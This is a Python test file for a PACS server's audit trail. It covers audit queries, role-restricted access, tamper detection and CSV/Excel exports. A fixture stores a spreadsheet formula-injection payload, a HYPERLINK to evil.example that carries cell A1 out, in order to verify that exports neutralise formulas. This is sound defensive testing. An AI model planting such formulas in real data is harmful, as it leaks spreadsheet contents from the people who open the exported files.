"""The auditor's read API with filters and paging, the chain status, and the CSV / Excel
exports (R-E3, R-E4, MLPS 6, 9, 10), through the real app on SQLite and PostgreSQL; the
``pacsd audit export`` command. Only the audit role reads; a refusal is 403 and audited;
an export is audited; spreadsheet formula injection is defused."""
from __future__ import annotations

import asyncio
import csv
import io

import orjson
import pytest
import sqlalchemy as sa
from dicomgen import make_dataset, multipart, to_part10
from openpyxl import load_workbook
from sechelpers import PASSWORD, make_settings

from pacsd import cli
from pacsd.index.security_schema import audit_events
from pacsd.services.audit_export import COLUMNS, cell

EVIL_UA = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"


async def stow(api, auth, ds, ua="CT-Scanner/1"):
    body, ctype = multipart([to_part10(ds)])
    r = await api.client.post("/dicom-web/studies", data=body, headers={
        "Content-Type": ctype, "User-Agent": ua, **auth})
    assert r.status == 200, await r.text()


@pytest.fixture
async def trail(api_db):
    """An auditor, a radiologist who stored two patients' studies ten minutes apart (one with
    a formula as its User-Agent), read one, and was once refused."""
    api = api_db
    auditor = await api.session("audrey", "auditor")
    doc = await api.session("dr-wang", "radiologist")
    a = make_dataset(PatientName="Zhang^San", PatientID="PID-A")
    await stow(api, doc, a, ua=EVIL_UA)
    api.clock.advance(600)  # within the session idle timeout
    b = make_dataset(PatientName="Li^Si", PatientID="PID-B")
    await stow(api, doc, b)
    assert (await api.client.get(f"/dicom-web/studies/{a.StudyInstanceUID}/metadata",
                                 headers=doc)).status == 200
    assert (await api.client.delete(f"/dicom-web/studies/{b.StudyInstanceUID}",
                                    headers=doc)).status == 403
    api.a, api.b, api.auditor, api.doc = a, b, auditor, doc
    return api


async def exported(api) -> list[dict]:
    """The audit-export events. The middleware writes one right after the handler has
    sent the last byte, so the client may finish reading a moment before it exists."""
    for _ in range(100):
        rows = await api.events(event_type="audit-export")
        if rows:
            return rows
        await asyncio.sleep(0.02)
    return []


async def get(api, url, headers):
    r = await api.client.get(url, headers=headers)
    assert r.status == 200, await r.text()
    return await r.json()


async def test_R_E3_E4_filters_and_paging(trail):
    api, aud = trail, trail.auditor
    rows = await api.events()
    t_day2 = [r for r in rows if r["event_type"] == "instances-stored"][1]["event_time"]

    async def seqs(query):
        return [e["seq"] for e in (await get(api, "/api/v1/audit?limit=1000&" + query,
                                             aud))["events"] if e["event_type"] != "audit-read"]

    stored = [r["seq"] for r in rows if r["event_type"] == "instances-stored"]
    assert await seqs("type=instances-stored") == stored
    assert await seqs("type=instances-stored,study-read") == [
        r["seq"] for r in rows if r["event_type"] in ("instances-stored", "study-read")]
    assert await seqs(f"type=instances-stored&since={t_day2}") == stored[1:]
    assert await seqs(f"type=instances-stored&until={t_day2}") == stored[:1]
    assert await seqs("outcome=denied") == [
        r["seq"] for r in rows if r["outcome"] == "denied"]
    # actor by user name or by id
    mine = [r["seq"] for r in rows if r["actor_name"] == "dr-wang"]
    assert await seqs("actor=dr-wang") == mine
    assert await seqs("actor=" + rows[-1]["actor"]) == mine
    # study, and patient: resolved through the catalogue (the trail holds no PatientID)
    a_events = [r["seq"] for r in rows if r["study_uid"] == api.a.StudyInstanceUID]
    assert len(a_events) == 2  # stored, read
    assert await seqs(f"study={api.a.StudyInstanceUID}") == a_events
    assert await seqs("patient=PID-A") == a_events
    assert await seqs("patient=NOBODY") == []
    # paging: newest first with before=, oldest first with after=, and a total
    page1 = await get(api, "/api/v1/audit?order=desc&limit=3&count=true", aud)
    assert len(page1["events"]) == 3 and page1["total"] >= len(rows)
    s1 = [e["seq"] for e in page1["events"]]
    assert s1 == sorted(s1, reverse=True)
    page2 = await get(api, f"/api/v1/audit?order=desc&limit=3&before={s1[-1]}", aud)
    assert [e["seq"] for e in page2["events"]] == [s1[-1] - 1, s1[-1] - 2, s1[-1] - 3]
    asc = await get(api, "/api/v1/audit?after=2&limit=2", aud)
    assert [e["seq"] for e in asc["events"]] == [3, 4]
    for bad in ("outcome=maybe", "type=nope", "since=yesterday", "until=x", "study=abc",
                "order=up", "limit=5000", "before=x", "patient=" + "P" * 65):
        r = await api.client.get(f"/api/v1/audit?{bad}", headers=aud)
        assert r.status == 400, bad
    # Reading is audited with its filters; a PatientID filter only as "patient": true.
    reads = await api.events(event_type="audit-read")
    details = [orjson.loads(r["detail"]) for r in reads]
    assert any(d.get("patient") is True for d in details)
    assert all("PID-A" not in r["detail"] and "NOBODY" not in r["detail"] for r in reads)


@pytest.mark.parametrize("path", ["/api/v1/audit", "/api/v1/audit/verify",
                                  "/api/v1/audit/events.csv", "/api/v1/audit/events.xlsx"])
async def test_MLPS6_only_the_auditor_reads_and_refusals_are_audited(api, path):
    for role in ("sysadmin", "secadmin", "radiologist"):
        auth = await api.session(f"u-{role}", role)
        r = await api.client.get(path, headers=auth)
        assert r.status == 403, (role, r.status)
        denied = await api.events(event_type="permission-denied", actor_name=f"u-{role}")
        assert len(denied) == 1 and f'"route":"{path}"' in denied[0]["detail"]
    assert (await api.client.get(path)).status == 401
    assert await api.events(event_type="audit-export") == []


async def test_SEC22_chain_status_for_the_page(trail, db_url):
    body = await get(trail, "/api/v1/audit/verify", trail.auditor)
    assert body["ok"] is True and body["problem"] == ""
    assert body["head_seq"] == body["rows"] >= 8 and len(body["head_hash"]) == 64
    engine = sa.create_engine(db_url)
    with engine.begin() as conn:  # someone edits a row directly in the database
        conn.execute(sa.update(audit_events).where(audit_events.c.seq == 3)
                     .values(actor_name="nobody"))
    engine.dispose()
    # A check a few seconds old is reused; fresh=true (or a minute later) walks again.
    assert (await get(trail, "/api/v1/audit/verify", trail.auditor))["ok"] is True
    body = await get(trail, "/api/v1/audit/verify?fresh=true", trail.auditor)
    assert (body["ok"], body["bad_seq"], body["problem"]) == (
        False, 3, "the row was modified")


async def test_R_E3_E4_csv_export_streams_filters_and_defuses_formulas(trail):
    api = trail
    r = await api.client.get("/api/v1/audit/events.csv?type=instances-stored",
                             headers=api.auditor)
    assert r.status == 200
    assert r.headers["Content-Type"].startswith("text/csv")
    assert "Content-Length" not in r.headers  # streamed
    assert 'attachment; filename="pacsd-audit-' in r.headers["Content-Disposition"]
    text = (await r.read()).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 with a BOM
    table = list(csv.reader(io.StringIO(text[1:])))
    assert tuple(table[0]) == COLUMNS
    body = [dict(zip(COLUMNS, row)) for row in table[1:]]
    assert [b["study_uid"] for b in body] == [api.a.StudyInstanceUID, api.b.StudyInstanceUID]
    assert body[0]["device"] == "'" + EVIL_UA  # never a live formula
    assert body[1]["device"] == "CT-Scanner/1"
    rows = await api.events(event_type="instances-stored")
    assert [b["hash"] for b in body] == [r["hash"] for r in rows]
    assert "Zhang" not in text and "PID-A" not in text
    exports = await exported(api)
    assert len(exports) == 1 and exports[0]["actor_name"] == "audrey"
    d = orjson.loads(exports[0]["detail"])
    assert (d["format"], d["results"], d["type"], d["status"]) == (
        "csv", 2, ["instances-stored"], 200)


async def test_R_E3_E4_excel_export(trail, tmp_path):
    api = trail
    r = await api.client.get("/api/v1/audit/events.xlsx?patient=PID-A", headers=api.auditor)
    assert r.status == 200
    assert r.headers["Content-Type"] == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    path = tmp_path / "a.xlsx"
    path.write_bytes(await r.read())
    ws = load_workbook(path, read_only=True)["audit"]
    values = list(ws.iter_rows(values_only=True))
    assert values[0] == COLUMNS
    got = [dict(zip(COLUMNS, v)) for v in values[1:]]
    assert [(g["event_type"], g["study_uid"]) for g in got] == [
        ("instances-stored", api.a.StudyInstanceUID), ("study-read", api.a.StudyInstanceUID)]
    assert got[0]["device"] == "'" + EVIL_UA and isinstance(got[0]["seq"], int)
    wb = load_workbook(path)  # no cell is a formula
    assert all(c.data_type != "f" for row in wb["audit"].iter_rows() for c in row)
    d = orjson.loads((await exported(api))[0]["detail"])
    assert (d["format"], d["results"], d["patient"]) == ("xlsx", 2, True)


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("plain", "plain"), (None, ""), (7, 7)])
def test_formula_guard(value, expected):
    assert cell(value) == expected


def test_cli_audit_export_csv_and_xlsx(tmp_path, capsys):
    data = tmp_path / "data"
    pw = tmp_path / "pw"
    pw.write_text(PASSWORD + "\n")
    common = ["--data-dir", str(data)]
    for name in ("ann", "bob", "dan"):
        assert cli.main(["user", "add", name, "--role", "clinician", "--password-file",
                         str(pw), *common]) == 0
    out = tmp_path / "trail.csv"
    assert cli.main(["audit", "export", "--type", "user-created", "--since", "2000-01-01",
                     "-o", str(out), *common]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"))))
    assert [r["event_type"] for r in rows] == ["user-created"] * 3
    assert "3 audit events written" in capsys.readouterr().out
    xl = tmp_path / "trail.xlsx"
    assert cli.main(["audit", "export", "--actor", "local", "-o", str(xl), *common]) == 0
    ws = load_workbook(xl, read_only=True)["audit"]
    types = [r[2] for r in list(ws.iter_rows(values_only=True))[1:]]
    assert types == ["user-created"] * 3 + ["audit-export"]  # the first export is audited
    assert not (tmp_path / "trail.xlsx.part").exists()
    assert cli.main(["audit", "export", "--type", "nonsense", "-o", str(out), *common]) == 2
    assert cli.main(["audit", "verify", *common]) == 0


def test_settings_audit_sections_load(tmp_path):
    from pacsd.config import ConfigError, load_settings
    f = tmp_path / "s.toml"
    f.write_text('[audit]\nretention_days = 400\n[audit.syslog]\nenabled = true\n'
                 'address = "soc.example:6514"\napp_name = "pacs-east"\n')
    s = load_settings(f)
    assert s.audit.retention_days == 400 and s.audit.syslog.address == "soc.example:6514"
    assert s.audit.syslog.app_name == "pacs-east" and s.audit.syslog.transport == "tls"
    for bad in ('[audit.syslog]\nenabled = true\naddress = "nohost"\n',
                '[audit.syslog]\ntransport = "tcp"\n', '[audit]\nretention_days = -1\n',
                '[audit.syslog]\nbogus = 1\n', '[audit]\nsyslog = 3\n'):
        f.write_text(bad)
        with pytest.raises(ConfigError):
            load_settings(f)
    assert make_settings(tmp_path).audit.retention_days == 0
